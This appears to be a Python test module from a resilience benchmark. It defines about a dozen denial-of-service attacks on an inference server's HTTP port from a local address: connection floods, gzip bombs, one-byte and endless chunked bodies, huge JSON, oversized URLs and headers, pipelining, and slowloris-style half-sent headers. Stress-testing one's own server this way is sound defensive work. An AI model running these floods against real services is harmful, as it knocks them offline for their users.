"""Attacks on the HTTP door, from the address 127.0.0.2: bounds per client do not apply to the client beside them."""

from __future__ import annotations

import contextlib
import gzip
import selectors
import socket
from typing import TYPE_CHECKING, NamedTuple
from urllib.parse import urlsplit

from bench_attacks.attack import Attack

if TYPE_CHECKING:
    from collections.abc import Callable

    from bench_attacks.attack import Clock, Doors

SOURCE = ("127.0.0.2", 0)
SLICE = 1 << 18
CONNECTIONS = 64


class Shape(NamedTuple):
    """Bytes that each connection sends: a head, then a body repeatedly. `reads`: it reads the answers."""

    head: bytes
    body: bytes
    repeats: int
    """Number of times that the body is sent before the head is sent again."""
    reads: bool = True


class Sender:
    """One connection of an attacker, which never waits."""

    def __init__(self, address: tuple[str, int], shape: Shape) -> None:
        self.requests = 0
        self._shape = shape
        self._left = 0
        self._view = memoryview(b"")
        self.sock = socket.create_connection(address, 5, SOURCE)
        if not shape.reads:
            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        self.sock.setblocking(False)

    def write(self) -> None:
        """Send what the socket takes of the next slice. Raises OSError if the server has closed."""
        if not self._view:
            if not self._left:
                self._view, self._left = memoryview(self._shape.head), self._shape.repeats
                self.requests += 1
            else:
                self._view, self._left = memoryview(self._shape.body), self._left - 1
        self._view = self._view[self.sock.send(self._view[:SLICE]) :]

    def read(self) -> None:
        """Discard what has arrived. Raises OSError if the server has closed."""
        if not self.sock.recv(SLICE):
            raise ConnectionResetError


def flood(shape: Callable[[Doors], Shape], connections: int = CONNECTIONS) -> Callable[[Doors, Clock], int]:
    """Return an attack over many connections at once, each made again when the server closes it."""

    def run(doors: Doors, clock: Clock) -> int:
        parts = urlsplit(doors.http)
        address, form, closed = (parts.hostname or "", parts.port or 80), shape(doors), 0
        events = selectors.EVENT_WRITE | (selectors.EVENT_READ if form.reads else 0)
        with selectors.DefaultSelector() as selector:
            senders: set[Sender] = set()
            while clock.running():
                while len(senders) < connections and clock.running():
                    try:
                        sender = Sender(address, form)
                    except OSError:
                        break
                    senders.add(sender)
                    selector.register(sender.sock, events, sender)
                for key, ready in selector.select(0.05):
                    sender = key.data
                    try:
                        if ready & selectors.EVENT_READ:
                            sender.read()
                        if ready & selectors.EVENT_WRITE:
                            sender.write()
                    except BlockingIOError:
                        continue
                    except OSError:
                        closed += sender.requests
                        selector.unregister(sender.sock)
                        sender.sock.close()
                        senders.discard(sender)
            for sender in senders:
                sender.sock.close()
        return closed + sum(sender.requests for sender in senders)

    return run


def infer_head(doors: Doors, extra: bytes) -> bytes:
    """Return the head of an inference request."""
    return b"POST /v2/models/%s/infer HTTP/1.1\r\nHost: h\r\n%s\r\n" % (doors.model.encode(), extra)


def chunked(body: bytes, repeats: int) -> Callable[[Doors], Shape]:
    """Return a chunked request whose body is repeated."""
    return lambda doors: Shape(infer_head(doors, b"Transfer-Encoding: chunked\r\n"), body, repeats)


def packed(body: bytes) -> Callable[[Doors], Shape]:
    """Return a request with a gzip body."""
    extra = b"Content-Encoding: gzip\r\nContent-Length: %d\r\n" % len(body)
    return lambda doors: Shape(infer_head(doors, extra), body, 1)


def leaving(body: bytes) -> Callable[[Doors, Clock], int]:
    """Return an attack that sends a gzip body and leaves at once."""

    def run(doors: Doors, clock: Clock) -> int:
        parts, sent = urlsplit(doors.http), 0
        form = packed(body)(doors)
        while clock.running():
            with (
                contextlib.suppress(OSError),
                socket.create_connection((parts.hostname or "", parts.port or 80), 5, SOURCE) as sock,
            ):
                sock.sendall(form.head + form.body)
                sent += 1
        return sent

    return run


def hold(data: bytes, most: int) -> Callable[[Doors, Clock], int]:
    """Return an attack that opens connections, sends `data` on each, and holds up to `most` of them."""

    def run(doors: Doors, clock: Clock) -> int:
        parts, socks, opened = urlsplit(doors.http), [], 0
        while clock.running():
            with contextlib.suppress(OSError):
                sock = socket.create_connection((parts.hostname or "", parts.port or 80), 1, SOURCE)
                sock.sendall(data)
                socks.append(sock)
                opened += 1
            if len(socks) > most:
                socks.pop(0).close()
        return opened

    return run


def unread(doors: Doors) -> Shape:
    """Return requests for a long answer, which is not read."""
    return Shape(
        b"",
        b"GET /v2/repository/index HTTP/1.1\r\nHost: h\r\n\r\nGET /v2/models/stats HTTP/1.1\r\nHost: h\r\n\r\n",
        1,
        False,
    )


def bodies(doors: Doors) -> Shape:
    """Return a request with 60 MB, of which the last part is never sent."""
    return Shape(infer_head(doors, b"Content-Length: 60000000\r\n"), bytes(1 << 20), 1 << 20)


def json_document(doors: Doors) -> Shape:
    """Return a request whose parameters take long to parse."""
    body = b'{"inputs":[],"parameters":{"a":[' + b"{}," * 5_000_000 + b"0]}}"
    return Shape(infer_head(doors, b"Content-Length: %d\r\n" % len(body)), body, 1)


def bomb() -> bytes:
    """Return 60 MB of zeros as gzip."""
    return gzip.compress(bytes(60_000_000))


def http(name: str, what: str, growth_mb: int, run: Callable[[Doors, Clock], int]) -> Attack:
    """Return an attack on the HTTP door."""
    return Attack(name, "http", what, run, growth_mb)


PIPELINED = b"GET /v2 HTTP/1.1\r\nHost: h\r\n\r\n" * 1000
HALF_HEAD = b"GET / HTTP/1.1\r\nHost: h\r\nA: " + b"x" * 60_000
HEADERS = b"GET /v2 HTTP/1.1\r\nHost: h\r\n" + b"".join(b"h%d: v\r\n" % number for number in range(250)) + b"\r\n"
URL = b"GET /%s HTTP/1.1\r\nHost: h\r\n\r\n" % (b"u" * 70_000)
ATTACKS = (
    http("http-tiny-chunks", "bodies in chunks of one byte", 64, flood(chunked(b"1\r\nx\r\n" * 40_000, 1000))),
    http("http-extensions", "chunk extensions without an end", 64, flood(chunked(b"1;" + b"e" * 200_000, 1000))),
    http("http-members", "gzip bodies of 500,000 empty members", 1100, flood(packed(gzip.compress(b"") * 500_000))),
    http("http-bombs", "64 gzip bombs of 60 MB at a time", 1100, flood(packed(bomb()))),
    http("http-leave", "gzip bombs whose sender leaves", 400, leaving(bomb())),
    http("http-unread", "answers that are not read", 600, flood(unread, 1000)),
    http("http-bodies", "64 bodies of 60 MB that never end", 900, flood(bodies)),
    http("http-json", "JSON of 15 MB with millions of objects", 1100, flood(json_document)),
    http("http-url", "URLs of 70 kB", 64, flood(lambda _: Shape(b"", URL, 1))),
    http("http-headers", "requests with 250 headers", 128, flood(lambda _: Shape(b"", HEADERS, 1))),
    http(
        "http-pipelined",
        "pipelined small requests",
        128,
        flood(lambda _: Shape(b"", PIPELINED, 1)),
    ),
    http("http-connections", "as many connections as possible", 128, hold(b"", 5000)),
    http(
        "http-heads",
        "unfinished headers of 60 kB on many connections",
        300,
        hold(HALF_HEAD, 5000),
    ),
)
